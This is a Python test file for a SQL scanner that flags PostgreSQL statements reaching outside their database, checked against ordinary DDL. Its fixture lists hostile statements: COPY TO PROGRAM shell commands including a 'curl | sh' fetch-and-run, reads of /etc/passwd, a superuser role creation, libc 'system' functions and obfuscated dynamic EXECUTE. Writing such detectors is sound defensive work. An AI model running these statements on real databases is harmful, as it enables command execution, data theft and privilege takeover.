"""What SQL can reach (``Statement.reach``): SQL that acts outside its database is found, in bodies and behind conditions too,
and the ordinary DDL of real histories is not."""

from __future__ import annotations

import pytest

from schema_tools.sql.reach import reaches

OUTSIDE = [
    "COPY (SELECT 1) TO PROGRAM 'touch /tmp/x'",
    "copy t from program E'curl http://x | sh'",
    "DO $$ BEGIN IF current_database() NOT LIKE 'scratch%' THEN\n  COPY (SELECT 1) TO PROGRAM 'id'; END IF; END $$",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $body$ BEGIN COPY t TO '/tmp/dump'; END $body$",
    "DO $$ BEGIN EXECUTE 'CO' || 'PY (SELECT 1) TO PROGRAM ''id'''; END $$",
    "DO 'BEGIN EXECUTE format(''%s'', ''x''); END'",
    "COPY t FROM '/etc/passwd'",
    "COPY t TO PROGRAM U&'\\0074ouch x'",
    "COPY t TO U&'/tmp/x'",
    "DO LANGUAGE plpgsql 'BEGIN COPY t TO PROGRAM ''id''; END'",
    "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'",
    "ALTER USER postgres PASSWORD 'x'",
    "DROP ROLE app",
    "ALTER SYSTEM SET shared_preload_libraries = 'x'",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "SELECT set_config('role', 'postgres', false)",
    "SET session_replication_role = replica",
    "LOAD 'auto_explain'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$",
    "CREATE FUNCTION f() RETURNS int AS 'libc.so.6', 'system' LANGUAGE C",
    "CREATE TRUSTED PROCEDURAL LANGUAGE plsh",
    "CREATE EXTENSION dblink",
    "CREATE EXTENSION IF NOT EXISTS adminpack",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_catalog.lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
    "SELECT query_to_xml('SELECT 1', true, true, '')",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
]
INSIDE = [
    "CREATE TABLE t (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, \"user\" text, program text, copy int)",
    "ALTER TABLE users ADD COLUMN role text NOT NULL DEFAULT 'member' CHECK (role IN ('owner', 'admin'))",
    "ALTER TABLE t ALTER COLUMN role SET DEFAULT 'x'",
    "COMMENT ON TABLE t IS 'Load balancer; copy the data to program managers; create role later'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
    "CREATE OR REPLACE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.at = now(); RETURN NEW; END $$",
    "CREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()",
    "DO $$ BEGIN CREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW EXECUTE PROCEDURE f(); END $$",
    "CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\" WITH SCHEMA public",
    "CREATE EXTENSION pg_trgm",
    "CREATE USER MAPPING FOR CURRENT_USER SERVER s",
    "GRANT SELECT ON t TO app",
    "copy t from stdin",
    "CREATE INDEX CONCURRENTLY t_role_idx ON t (role)",
]


@pytest.mark.parametrize("sql", OUTSIDE)
def test_sql_that_acts_outside_its_database_is_found(sql: str) -> None:
    assert reaches(sql), sql


@pytest.mark.parametrize("sql", INSIDE)
def test_ordinary_ddl_is_not(sql: str) -> None:
    assert reaches(sql) == [], sql


def test_each_finding_says_what_it_would_do() -> None:
    assert reaches("COPY (SELECT 1) TO PROGRAM 'id'") == ["runs a program on the database server (COPY ... PROGRAM)"]
    assert reaches("DO $$ BEGIN EXECUTE 'SELECT 1'; END $$") == [
        "runs dynamic SQL (EXECUTE in a body): what it runs cannot be checked"]


@pytest.mark.parametrize("sql", [
    'SELECT "pg_read_file"(\'/etc/passwd\')', 'SELECT "dblink_exec"(\'x\', \'y\')', 'SET "role" = postgres',
    'CREATE EXTENSION "file_fdw"', 'CREATE FUNCTION f() RETURNS int LANGUAGE "plpython3u" AS $$ return 1 $$',
])
def test_a_quoted_name_reaches_as_far_as_the_name_it_quotes(sql: str) -> None:
    from schema_tools.sql.statement import Statement

    assert Statement(sql).reach, sql


@pytest.mark.parametrize("sql", [
    'SELECT "LO_IMPORT"(1)',  # another function: quoted names keep their case
    'CREATE FUNCTION f("execute" int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN "execute"; END $$',
    'SELECT 1 AS "to", \'x\' AS "program"',
])
def test_a_quoted_name_is_never_a_keyword(sql: str) -> None:
    from schema_tools.sql.statement import Statement

    assert Statement(sql).reach == [], sql
